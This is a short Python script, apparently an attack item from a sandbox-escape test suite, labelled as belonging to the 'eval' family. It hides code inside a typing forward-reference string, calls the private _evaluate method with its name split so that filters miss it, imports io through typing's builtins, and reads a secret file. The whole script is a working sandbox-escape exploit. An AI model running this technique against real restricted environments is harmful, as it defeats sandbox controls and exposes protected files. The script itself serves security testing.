# attack: typing keeps text as a reference to a type; get_args hands the reference out without its refused name, and evaluating it takes typing's own builtins
# family: eval
import typing
got = []
reference = typing.get_args(typing.List["[got.append(__import__('io')), int][1]"])[0]
evaluate = getattr(reference, "_evalu" + "ate")
evaluate({"got": got}, {}, frozenset())
print("REACHED", got[0])
print(got[0].open("$SECRET_FILE").read())
